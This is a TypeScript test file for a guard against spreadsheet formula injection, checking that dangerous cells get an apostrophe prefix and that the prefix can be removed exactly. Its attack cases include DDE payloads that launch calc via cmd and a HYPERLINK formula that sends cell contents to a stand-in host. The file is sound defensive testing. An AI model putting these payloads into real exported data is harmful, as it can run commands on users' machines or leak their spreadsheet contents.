import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { guardFormula, unguardFormula } from "../src/formulaGuard.ts"

const triggers = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "|", "＝", "＋", "－", "＠"]

const text = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...triggers, "'", '"', " ", "\u00a0", "\ufeff", "a"),
    fc.string({ unit: "binary", maxLength: 1 }),
  ),
  maxLength: 8,
})

describe("guardFormula", () => {
  it.each(triggers)("puts an apostrophe before %j", (trigger) => {
    expect(guardFormula(`${trigger}1`)).toBe(`'${trigger}1`)
  })

  it.each([" =1", '"=1', "' =1", "\u00a0+1", '  " -1', "\ufeff@x", "''=1", "-", "+46701234567"])(
    "guards %j",
    (cell) => {
      expect(guardFormula(cell)).toBe(`'${cell}`)
    },
  )

  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?x="&A1,"see")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r\n=1+1",
    "|calc",
    "＝1+1",
  ])("guards the attack %j", (cell) => {
    expect(guardFormula(cell)).toBe(`'${cell}`)
    expect(unguardFormula(`'${cell}`)).toBe(cell)
  })

  it.each(["", "O'Brien", "'t Hooft", "'", "Anna", "a=b", "1-2", "名前", "Ø", "🙂", '"quoted"', " "])(
    "leaves %j as it is, both ways",
    (cell) => {
      expect(guardFormula(cell)).toBe(cell)
      expect(unguardFormula(cell)).toBe(cell)
    },
  )

  it("is undone exactly, for every string", () => {
    fc.assert(
      fc.property(text, (cell) => {
        expect(unguardFormula(guardFormula(cell))).toBe(cell)
      }),
      { numRuns: 5000 },
    )
  })

  it("leaves no cell whose first character, after spaces and quotes, is a trigger without an apostrophe", () => {
    fc.assert(
      fc.property(text, (cell) => {
        const guarded = guardFormula(cell)
        const inner = guarded.replace(/^[ \u00a0\ufeff"]*/, "")
        expect(guarded.startsWith("'") || !triggers.some((trigger) => inner.startsWith(trigger))).toBe(true)
      }),
      { numRuns: 5000 },
    )
  })

  it("takes time in proportion to the length", () => {
    const quotes = "'\" ".repeat(1_000_000)
    expect(guardFormula(`${quotes}x`)).toBe(`${quotes}x`)
    expect(guardFormula(`${quotes}=`)).toBe(`'${quotes}=`)
  })
})
